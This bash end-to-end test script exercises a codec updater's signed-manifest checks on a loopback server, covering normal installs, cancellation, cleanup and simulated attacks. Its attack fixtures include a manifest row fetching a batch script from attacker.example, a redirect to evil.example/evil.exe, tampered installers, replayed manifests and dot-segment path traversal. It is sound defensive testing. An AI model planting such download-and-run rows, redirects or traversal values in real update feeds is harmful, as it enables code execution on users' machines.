#!/usr/bin/env bash
# ZeloraUpdate as it runs at logon, with its real 20-second start timer and every request
# going to the loopback server, its manifests signed by the signing tool with the
# development key: an update of two codecs (downloaded, installed one after the other,
# cleaned up, "Zelora-ver" and the serial recorded for the user, OK starting the settings
# centre, the installers run in the system folder from a run folder only the user can
# write, an earlier run's day-old folder removed), a tampered installer (never started), a
# cancel during a download (nothing left), a manifest that answers 404 (the updater ends by
# itself), the signing tool refusing what the updater would not take, and the attacks the
# signature closes: an added script row, a redirect to another host's program, a trickling
# server with a close sent meanwhile, a replayed old manifest, another manifest with the
# serial already taken, an address with dot segments and an endless version number.
source "$(dirname "$0")/lib.sh"
product='Software\Tarnwick\Quellmark'
web="$ZELORA_LOOPBACK_ROOT/www.zelora.example"
dl="$ZELORA_LOOPBACK_ROOT/dl.zelora.example"
work=$(e2e_temp_dir)
installer_log="$work/installers.log"
export ZELORA_FAKE_INSTALLER_LOG; ZELORA_FAKE_INSTALLER_LOG=$(winepath_of "$installer_log")
export ZELORA_FAKE_INSTALLER_SLEEP_MS=1500
cwd_log="$work/cwd.log"
export ZELORA_FAKE_INSTALLER_CWD_LOG; ZELORA_FAKE_INSTALLER_CWD_LOG=$(winepath_of "$cwd_log")

mkdir -p "$web/update/zl" "$dl/codecs" "$work/Zelora" "$work/cwd/temp"
for name in xvid.exe ac3.exe; do cp "$ZELORA_BUILD/zelora_fake_installer.exe" "$dl/codecs/$name"; done
cp "$ZELORA_BUILD/zelora_fake_installer.exe" "$work/Zelora/Zelora.exe"
echo keep > "$work/cwd/temp/sentinel.txt"
user_temp=$(find "$WINEPREFIX/drive_c/users" -maxdepth 4 -type d -iname temp | head -n 1)  # GetTempPath
echo keep > "$user_temp/zelora-sentinel.txt"
# The publisher's copies, whose hashes and sizes the signing tool writes into the manifest
# (VSFilter's too: the server has none, as nobody selects it).
mkdir -p "$work/genuine"
cp "$dl/codecs/"*.exe "$work/genuine/"
cp "$ZELORA_BUILD/zelora_fake_installer.exe" "$work/genuine/vsfilter.exe"
# The installers arrive slowly enough to be seen arriving.
echo '{"/codecs/xvid.exe": {"chunk": 16384, "chunk_delay": 0.25}}' > "$ZELORA_LOOPBACK_ROOT/routes.json"

manifest() { # [program version]
  printf '[ZELORADATE]\r\nVER=%s\r\nURL=http://www.zelora.example/\r\n' "${1:-20051013}"
  printf '[Xvid]\r\nVER=1.1\r\nURL=http://dl.zelora.example/codecs/xvid.exe\r\n'
  printf '[AC3filter]\r\nVER=0.9\r\nURL=http://dl.zelora.example/codecs/ac3.exe\r\n'
  printf '[VSFilter]\r\nVER=2.0\r\nURL=http://dl.zelora.example/codecs/vsfilter.exe\r\n'
}
# Signs the manifest on stdin and publishes it with its signature: serial [tool options].
sign_tool() {
  local serial=$1; shift
  cat > "$work/manifest.in"
  python3 "$e2e_root/tools/sign/sign_manifest.py" sign --key "$dev_key" \
    --serial "$serial" --files "$work/genuine" "$@" "$work/manifest.in" "$web/update/zl" >"$work/publish.txt" 2>&1
}
publish() { sign_tool "$@" || fail "the signing tool refused a genuine manifest: $(tail -n 2 "$work/publish.txt")"; }
dev_key="$e2e_root/tests/keys/dev-update-signing.private.pem"
# What the signing tool refuses, signed anyway (as a leaked key or a careless publisher
# would): the published manifest edited by a sed script, then signed with openssl.
resign_edited() { # sed script
  sed -i "$1" "$web/update/zl/update.qmu"
  openssl dgst -sha256 -sign "$dev_key" -out "$web/update/zl/update.qmu.sig" "$web/update/zl/update.qmu"
}
fresh_registry() {
  reg_apply <<REG
HKLM|$product|-
HKCU|$product|-
HKLM|$product\\Setup|Install_Dir|sz|$(winepath_of "$work/Zelora")
HKLM|$product\\CodecUpdate\\video|Xvid|dword|1
HKLM|$product\\CodecUpdate\\audio|AC3Filter|dword|1
HKLM|$product\\CodecUpdate\\caption|VSFilter|dword|0
HKLM|$product\\CodecBuildNum\\video|Xvid|sz|1.0
REG
}
run_folders() { find "$WINEPREFIX/drive_c/users" -maxdepth 6 -type d -name 'ZeloraUpdate-*' 2>/dev/null | wc -l; }

start_updater() {
  (cd "$work/cwd" && exec "$ZELORA_WINE" "$ZELORA_BUILD/ZeloraUpdate.exe" >/dev/null 2>&1) &
  ZELORA_PID=$!
}
# The offer window: 272 pixels wide once placed; sets UPDATER_WINDOW.
offer_window() {
  local w
  for w in $(xdotool search --onlyvisible --name '^ZL Update$' 2>/dev/null); do
    [ "$(window_geometry "$w" | cut -d' ' -f3)" = 272 ] && { UPDATER_WINDOW=$w; return 0; }
  done
  return 1
}
# Client origin of the offer window on the screen: where its background picture starts.
locate_client() {
  eval "$(xdotool getwindowgeometry --shell "$UPDATER_WINDOW")"
  local at
  [ -f "$work/corner.png" ] ||
    convert "$(skin_png update 131)" -crop 30x30+0+0 +repage "$work/corner.png"
  xwd -root -silent | convert xwd:- -crop "300x190+$X+$Y" +repage "$work/around.png"
  at=$(compare -metric AE -subimage-search "$work/around.png" "$work/corner.png" null: 2>&1 |
    sed -n 's/.* @ \([0-9]*\),\([0-9]*\).*/\1 \2/p')
  [ -n "$at" ] || { fail "offer window's client area not found"; at="3 19"; }
  CLIENT_X=$((X + ${at% *})); CLIENT_Y=$((Y + ${at#* }))
}
client_click() { xdotool mousemove --sync $((CLIENT_X + $1)) $((CLIENT_Y + $2)) click 1; sleep 0.5; }
client_shot() { screenshot "$1" "266x133+$CLIENT_X+$CLIENT_Y"; }
client_shows() { # bitmap id, x, y [w h]: that skin picture (or its top left w x h) exactly
  local bmp size
  bmp=$(skin_png update "$1")
  size=${4:+${4}x$5}
  size=${size:-$(identify -format '%wx%h' "$bmp")}
  convert "$bmp" -crop "${size}+0+0" +repage "$work/expected.png"
  [ "$(screen_differences "$work/expected.png" $((CLIENT_X + $2)) $((CLIENT_Y + $3)))" = "0" ]
}
# Return to the failure box, through the focus rather than `key --window`: the press closes
# the box, and xdotool, finding that window gone, would never send the release, leaving
# Return held and repeating into every window that follows (closing the next box at once).
answer_failure_box() {
  local box; box=$(visible_window '^ZeloraUpdate$')
  [ -n "$box" ] && xdotool windowfocus --sync "$box" 2>/dev/null
  xdotool key Return
}
installer_log_is() { [ "$(cat "$installer_log" 2>/dev/null)" = "$1" ]; }

echo "-- the signing tool signs only what the updater takes"
manifest | publish 9
published=$(sha256sum "$web/update/zl/update.qmu")
refused() { # description; the manifest on stdin and the tool's options: nothing published
  local what=$1; shift
  if sign_tool "$@"; then fail "tool: $what: signed"
  else check "tool: $what: refused" [ "$(sha256sum "$web/update/zl/update.qmu")" = "$published" ]; fi
}
manifest | refused "a 19-digit SERIAL" 1000000000000000000
manifest | refused "EXPIRES of month 13" 9 --expires 20261301
{ manifest; printf '[XVID]\r\nVER=1.2\r\n'; } | refused "a repeated section" 9
manifest | sed 's|codecs/xvid.exe|codecs/../xvid.exe|' | refused "an address with a dot segment" 9
manifest | sed 's|codecs/xvid.exe|codecs/x%20vid.exe|' | refused "a refused file name" 9
check "tool: says why" grep -q "file name" "$work/publish.txt"
# A header with a comment after it is the section the updater reads: its pins go there.
manifest | sed 's/^\[Xvid\]/[xvid] ; the video codec/' | publish 9
pinned_in_place() {
  [ "$(grep -ci '^\[xvid' "$web/update/zl/update.qmu")" = 1 ] &&
    grep -A1 '^\[xvid\] ; the video codec' "$web/update/zl/update.qmu" |
      grep -q "^SHA256=$(sha256sum "$work/genuine/xvid.exe" | cut -d' ' -f1)"
}
check "tool: pins go into the section the updater reads" pinned_in_place

echo "-- an update of two codecs"
# An earlier run's folder, a day old; one of an hour ago; one no run would name so.
user_temp_now=$(find "$WINEPREFIX/drive_c/users" -maxdepth 4 -type d -iname temp | head -n 1)
for old in ZeloraUpdate-7-1000-0:25 ZeloraUpdate-7-2000-0:1 ZeloraUpdate-mine:25; do
  mkdir -p "$user_temp_now/${old%:*}"; echo left > "$user_temp_now/${old%:*}/ac3.exe"
  touch -d "${old#*:} hours ago" "$user_temp_now/${old%:*}"
done
folders_before=$(( $(run_folders) - 1 ))  # the day-old one goes
fresh_registry
manifest | publish 10
: > "$installer_log"
start_updater
sleep 12
not_offering() { ! offer_window; }
check "hidden while its start timer runs" not_offering
check "offers the update after about 20 seconds" wait_for 30 offer_window
described "ZL Update" "the offer, as a screen reader reads it"
check "the day-old folder of an earlier run is gone" [ ! -e "$user_temp_now/ZeloraUpdate-7-1000-0" ]
others_stay() { [ -e "$user_temp_now/ZeloraUpdate-7-2000-0/ac3.exe" ] && [ -e "$user_temp_now/ZeloraUpdate-mine/ac3.exe" ]; }
check "a younger one stays, and one not named as a run's" others_stay
rm -rf "$user_temp_now/ZeloraUpdate-7-2000-0" "$user_temp_now/ZeloraUpdate-mine"
folders_before=$(( folders_before - 2 ))
# Wine keeps a folder's access list as its mode: the user alone may write (the group stands
# for the Administrators), others may not even look in (a default folder is drwxr-xr-x).
run_folder=$(find "$WINEPREFIX/drive_c/users" -maxdepth 6 -type d -name 'ZeloraUpdate-*' -newer "$work/manifest.in" | head -n 1)
only_the_user_writes() { [[ "$(stat -c %A "$run_folder" 2>/dev/null)" == drwx?-?--- ]]; }
check "the run folder is written by the user alone" only_the_user_writes
locate_client
sleep 1
client_shot "$shots/updater-offer.png"
check "offer shows its background" client_shows 131 0 0 266 76
# The band below the question names the codecs and their new builds.
offer_names_codecs() {
  convert "$(skin_png update 131)" -crop 240x22+16+78 +repage "$work/band.png"
  [ "$(screen_differences "$work/band.png" $((CLIENT_X + 16)) $((CLIENT_Y + 78)))" -gt 100 ]
}
check "offer names what it installs" offer_names_codecs
check "offer shows the update button" client_shows 133 48 108
xdotool key --window "$UPDATER_WINDOW" Return Escape; sleep 1
check "Return and Escape leave the offer open" offer_window
eval "$(xdotool getwindowgeometry --shell "$UPDATER_WINDOW")"; before_x=$X
xdotool mousemove --sync $((CLIENT_X + 200)) $((CLIENT_Y + 20)) mousedown 1 mousemove --sync $((CLIENT_X + 240)) $((CLIENT_Y + 50)) mouseup 1
sleep 0.5
eval "$(xdotool getwindowgeometry --shell "$UPDATER_WINDOW")"
check "dragging the client area moves the window" [ "$X" -eq $((before_x + 40)) ]
locate_client
client_click 91 118
sleep 1.5
client_shot "$shots/updater-downloading.png"
check "downloading shows its background" client_shows 140 0 0 266 56
check "downloading shows the disabled update button" client_shows 135 48 108
check "installs both codecs, one after the other" wait_for 40 installer_log_is \
  "$(printf 'start xvid.exe\nend xvid.exe\nstart ac3.exe\nend ac3.exe')"
check "each installer runs in the system folder" [ "$(tr -d '\r' < "$cwd_log")" = "$(printf 'C:\\windows\\system32\nC:\\windows\\system32')" ]
sleep 1.5
client_shot "$shots/updater-done.png"
check "done shows its background" client_shows 141 0 0 266 100
check "done shows OK" client_shows 132 98 108
folders_left() { [ "$(run_folders)" -eq "$folders_before" ]; }
check "the run folder is cleaned up" wait_for 15 folders_left
client_click 131 118
check "OK ends the updater" wait_exit 10
check "OK starts the installed Zelora" wait_for 10 grep -q 'start Zelora.exe' "$installer_log"
# Started and forgotten, it writes its end a moment later: not into the next run's log.
wait_for 10 grep -q 'end Zelora.exe' "$installer_log"
check "the version check is recorded for the user" [ "$(reg_get HKCU "$product\\Setup" Zelora-ver)" = 20051013 ]
check "the manifest's serial is recorded for the user" [ "$(reg_get HKCU "$product\\Setup" Manifest-serial)" = 10 ]
check "nothing was written machine-wide" [ -z "$(reg_get HKLM "$product\\Setup" Zelora-ver)" ]
check "the manifest came through the loopback server" grep -q 'GET http://www.zelora.example.*/update/zl/update.qmu' "$ZELORA_LOOPBACK_LOG"
check "its signature too" grep -q 'GET http://www.zelora.example.*/update/zl/update.qmu.sig' "$ZELORA_LOOPBACK_LOG"
check "the current directory's temp folder is untouched" [ "$(cat "$work/cwd/temp/sentinel.txt")" = keep ]
check "the user's temporary folder keeps what is not ours" [ "$(cat "$user_temp/zelora-sentinel.txt")" = keep ]

echo "-- a tampered installer"
fresh_registry
manifest | publish 11
# The server's copy differs from what was signed in one byte, at the same size.
python3 -c 'import sys; b = bytearray(open(sys.argv[1], "rb").read()); b[-1] ^= 1; open(sys.argv[1], "wb").write(b)' \
  "$dl/codecs/ac3.exe"
: > "$installer_log"
start_updater
check "offers the update" wait_for 35 offer_window
locate_client
client_click 91 118
failure_box() { window_shown '^ZeloraUpdate$'; }
check "reports the failed download" wait_for 40 failure_box
xwd -root -silent | convert xwd:- "$shots/updater-failure.png"
answer_failure_box
check "ends after the report" wait_exit 10
check "the tampered installer never started" installer_log_is "$(printf 'start xvid.exe\nend xvid.exe')"
check "nothing left behind" folders_left
cp "$work/genuine/ac3.exe" "$dl/codecs/ac3.exe"

echo "-- a cancel during a download"
fresh_registry
manifest | publish 12
# The first bytes, then a long silence: the worker waits in a read when the cancel comes.
echo '{"/codecs/xvid.exe": {"chunk": 16384, "chunk_delay": 8}}' > "$ZELORA_LOOPBACK_ROOT/routes.json"
: > "$installer_log"
start_updater
check "offers the update" wait_for 35 offer_window
locate_client
client_click 91 118
sleep 2
part_files() { find "$WINEPREFIX/drive_c/users" -maxdepth 7 -name '*.part' 2>/dev/null | wc -l; }
check "the download has begun" [ "$(part_files)" -eq 1 ]
client_click 183 118
check "cancel ends the updater" wait_exit 5
check "cancel leaves no .part file" [ "$(part_files)" -eq 0 ]
check "cancel leaves no run folder" folders_left
check "nothing was started" installer_log_is ""
echo '{"/codecs/xvid.exe": {"chunk": 16384, "chunk_delay": 0.25}}' > "$ZELORA_LOOPBACK_ROOT/routes.json"

echo "-- a manifest that answers 404"
reg_apply <<REG
HKLM|$product|-
HKCU|$product|-
HKLM|$product\\CodecUpdate\\video|Xvid|dword|1
REG
echo '{"/update/zl/update.qmu": {"status": 404}}' > "$ZELORA_LOOPBACK_ROOT/routes.json"
start_updater
first=$ZELORA_PID
sleep 2
start_updater
check "a second copy ends at once, silently" wait_exit 10
ZELORA_PID=$first
# Watched until it ends: the offer must never appear.
ends_unseen() { # [seconds to wait]
  local i
  for i in $(seq 1 $(( ${1:-40} * 5 ))); do offer_window && return 1; zelora_running || return 0; sleep 0.2; done
  return 1
}
check "the updater ends by itself, never seen" ends_unseen
check "nothing was recorded" [ -z "$(reg_get HKCU "$product\\Setup" Zelora-ver)" ]
echo '{}' > "$ZELORA_LOOPBACK_ROOT/routes.json"

# Each attack ends with nothing offered, nothing started and nothing recorded.
user_records() { echo "$(reg_get HKCU "$product\\Setup" Zelora-ver)/$(reg_get HKCU "$product\\Setup" Manifest-serial)"; }
attack() { # description; the updater must end unseen, having started and recorded nothing
  : > "$installer_log"
  local before; before=$(user_records)
  start_updater
  check "$1: ends unseen" ends_unseen
  check "$1: nothing started" installer_log_is ""
  check "$1: nothing recorded" [ "$(user_records)" = "$before" ]
}
mkdir -p "$ZELORA_LOOPBACK_ROOT/attacker.example/p" "$ZELORA_LOOPBACK_ROOT/evil.example"
printf '@echo off\r\necho pwned > "%%TEMP%%\\zelora-pwned.txt"\r\n' > "$ZELORA_LOOPBACK_ROOT/attacker.example/p/run.cmd"
# Another program than the one signed (one byte differs).
python3 -c 'import sys; b = bytearray(open(sys.argv[1], "rb").read()); b[-1] ^= 1; open(sys.argv[2], "wb").write(b)' \
  "$ZELORA_BUILD/zelora_fake_installer.exe" "$ZELORA_LOOPBACK_ROOT/evil.example/evil.exe"
reg_apply <<REG
HKCU|$product|-
HKCU|$product\\Setup|Manifest-serial|sz|20
HKLM|$product\\CodecUpdate\\video|Xvid|dword|1
REG

echo "-- attack: a script row added to a genuine manifest"
manifest | publish 20
run_cmd_hash=$(sha256sum "$ZELORA_LOOPBACK_ROOT/attacker.example/p/run.cmd" | cut -d' ' -f1)
printf '[Divx5]\r\nVER=9\r\nURL=http://attacker.example/p/run.cmd\r\nSHA256=%s\r\nSIZE=%s\r\n' "$run_cmd_hash" \
  "$(stat -c %s "$ZELORA_LOOPBACK_ROOT/attacker.example/p/run.cmd")" >> "$web/update/zl/update.qmu"
reg_apply <<REG
HKLM|$product\\CodecUpdate\\video|Divx5|dword|1
REG
attack "script row"
check "script row: the script was never fetched" sh -c "! grep -q 'run.cmd' '$ZELORA_LOOPBACK_LOG'"

echo "-- attack: the installer's address redirected to another host's program"
manifest | publish 21
taken_21=$(sha256sum "$web/update/zl/update.qmu")
echo '{"/codecs/xvid.exe": {"status": 302, "location": "http://evil.example/evil.exe"}}' > "$ZELORA_LOOPBACK_ROOT/routes.json"
: > "$installer_log"
start_updater
check "redirect: offers the signed update" wait_for 35 offer_window
locate_client
client_click 91 118
check "redirect: reports the failed download" wait_for 40 failure_box
answer_failure_box
check "redirect: ends after the failure" wait_exit 10
check "redirect: the other host's program was never started" installer_log_is ""
check "redirect: and not kept" folders_left
echo '{}' > "$ZELORA_LOOPBACK_ROOT/routes.json"

echo "-- attack: a trickling server, and the setup's close meanwhile"
manifest | publish 22
echo '{"/update/zl/update.qmu": {"file": "www.zelora.example/update/zl/update.qmu", "chunk": 1, "chunk_delay": 20}}' \
  > "$ZELORA_LOOPBACK_ROOT/routes.json"
: > "$installer_log"
before=$(user_records)
start_updater
sleep 24  # the start delay has passed: the manifest is trickling in
close_ms=$("$ZELORA_WINE" "$ZELORA_BUILD/zelora_regtool.exe" close "ZL Update" 2>/dev/null | tr -d '\r')
echo "  (the close was answered after ${close_ms:-no answer} ms)"
check "trickle: the close is answered within a second" [ -n "$close_ms" ] && [ "${close_ms:-9999}" -lt 1000 ]
check "trickle: the updater has ended" wait_exit 2
check "trickle: nothing recorded" [ "$(user_records)" = "$before" ]
# Without a close it ends by itself within its bound: 30 s for the manifest and signature,
# and at most one 20-second wait for a byte beyond.
start_updater
trickle_start=$(date +%s)
check "trickle: ends unseen by itself" ends_unseen 80
trickle_seconds=$(( $(date +%s) - trickle_start ))
echo "  (ended after ${trickle_seconds} s, 20 of them the start delay)"
check "trickle: within the start delay and the 50-second bound" [ "$trickle_seconds" -le 73 ]
echo '{}' > "$ZELORA_LOOPBACK_ROOT/routes.json"

echo "-- attack: an old manifest replayed"
manifest | publish 19
attack "replay"

echo "-- attack: another manifest with the serial taken last"
check "the redirect run recorded its manifest's digest" \
  [ "$(reg_get HKCU "$product\\Setup" Manifest-sha256)" = "$(cut -d' ' -f1 <<<"$taken_21")" ]
manifest 20991231 | publish 21
attack "same serial"

echo "-- attack: addresses with dot segments"
manifest | publish 25
resign_edited 's|/codecs/|/codecs/%2E%2e/codecs/|'
logged=$(wc -c < "$ZELORA_LOOPBACK_LOG")
: > "$installer_log"
start_updater
# The manifest itself is genuine and taken; its codecs are not offered.
check "dot segments: ends unseen" ends_unseen
check "dot segments: nothing started" installer_log_is ""
check "dot segments: no installer was fetched" sh -c "! tail -c +$((logged + 1)) '$ZELORA_LOOPBACK_LOG' | grep -q 'GET http://dl.'"

echo "-- attack: an endless version number"
manifest | publish 26
resign_edited 's/^VER=20051013/VER=99999999999/'
attack "endless version"
manifest 20991231 | publish 27
start_updater
notice_box() { window_shown '^ZeloraUpdata$'; }
check "endless version: a later genuine release is still announced" wait_for 35 notice_box
check "endless version: and recorded" [ "$(reg_get HKCU "$product\\Setup" Zelora-ver)" = 20991231 ]
kill "$ZELORA_PID" 2>/dev/null; wait "$ZELORA_PID" 2>/dev/null
echo '{}' > "$ZELORA_LOOPBACK_ROOT/routes.json"
rm -f "$user_temp/zelora-sentinel.txt"
finish
